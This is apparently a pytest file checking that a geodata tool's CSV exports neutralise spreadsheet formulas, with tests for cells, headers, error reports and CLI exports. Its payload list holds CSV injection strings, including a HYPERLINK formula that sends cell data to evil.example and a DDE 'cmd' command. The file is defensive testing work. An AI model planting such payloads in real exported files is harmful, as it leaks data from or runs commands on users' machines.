"""CSV exports never hand a spreadsheet a formula (issue 14, item 9; OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from est_geo.cli import main
from est_geo.core.errors import Problem
from est_geo.io import problems_to_csv
from est_geo.io.csvout import FORMULA_STARTS, frame_to_csv, neutralise_cell, rows_to_csv, safe_frame
from est_geo.store import Store
from tests.conftest import small_areas, small_incidents

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"klicka")',
    "+1+1",
    "-1+2",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]


def _cells(data: bytes, sep: str) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    lines = [ln for ln in text.splitlines(keepends=True) if not ln.startswith("# ")]
    return list(csv.reader(io.StringIO("".join(lines)), delimiter=sep))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-][\d.,]+", cell), cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_a_formula_is_quoted(payload: str) -> None:
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-1.5", "+46", "-3,25", "1e3", "Åsa", "", "a=b", "'=1"])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value


def test_numeric_columns_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "varde": [-1.5, 2.0, -0.25],
            "antal": [-3, 4, 5],
            "text": ["-1.5", "=1+1", None],
            "kat": pd.Categorical(["@x", "ok", "ok"]),
        }
    )
    safe = safe_frame(frame)
    assert safe["varde"].dtype == float and safe["varde"].tolist() == [-1.5, 2.0, -0.25]
    assert safe["antal"].tolist() == [-3, 4, 5]
    assert safe["text"].tolist()[:2] == ["-1.5", "'=1+1"] and pd.isna(safe["text"].iloc[2])
    assert safe["kat"].tolist() == ["'@x", "ok", "ok"]
    rows = _cells(frame_to_csv(frame), ",")
    assert rows[1] == ["-1.5", "-3", "-1.5", "'@x"]
    assert frame["text"].tolist()[1] == "=1+1"  # the caller's frame is not changed


def test_headers_are_neutralised_too() -> None:
    """Rejected rows keep the user's own column names: they are text cells as well."""
    rejected = pd.DataFrame({"=SUM(A1)": ["+1+1"], "Datum": ["2025-01-06"]})
    rows = _cells(frame_to_csv(rejected, sep=";"), ";")
    assert rows == [["'=SUM(A1)", "Datum"], ["'+1+1", "2025-01-06"]]


def test_error_report_quotes_the_bad_values() -> None:
    problems = [Problem(row=i + 2, field="Datum", value=p, message="ogiltigt datum")
                for i, p in enumerate(PAYLOADS)]  # fmt: skip
    rows = _cells(problems_to_csv(problems), ";")
    assert rows[0] == ["rad", "fält", "värde", "orsak"]
    assert [r[2] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    _no_formula(rows)
    assert rows_to_csv(["a"], [[-1.5]]).decode("utf-8-sig") == "a\r\n-1.5\r\n"


def test_cli_export_csv_quotes_formulas(store_factory: Callable[[], Store], tmp_path: Path) -> None:
    store = store_factory()
    store.add_areas(small_areas(), user="t")
    incidents = small_incidents(len(PAYLOADS))
    incidents["description"] = PAYLOADS
    store.add_incidents(incidents, user="t")
    out = tmp_path / "ut.csv"
    assert (
        main(["export", "--db", store.url, "--what", "incidents", "--format", "csv", str(out)]) == 0
    )
    rows = _cells(out.read_bytes(), ",")
    _no_formula(rows)
    described = {r[rows[0].index("description")] for r in rows[1:]}
    assert {"'" + p for p in PAYLOADS} <= described
    x = rows[0].index("x")
    assert all(float(r[x]) > 0 for r in rows[1:])  # coordinates still plain numbers


def test_every_csv_export_uses_the_shared_writer() -> None:
    """No module writes CSV past :mod:`est_geo.io.csvout` (a new export would skip the quoting)."""
    offenders = []
    for folder in ("est_geo", "ui", "app_pages"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csvout.py":
                continue
            text = path.read_text(encoding="utf-8")
            if ".to_csv(" in text or "csv.writer(" in text or "DictWriter(" in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
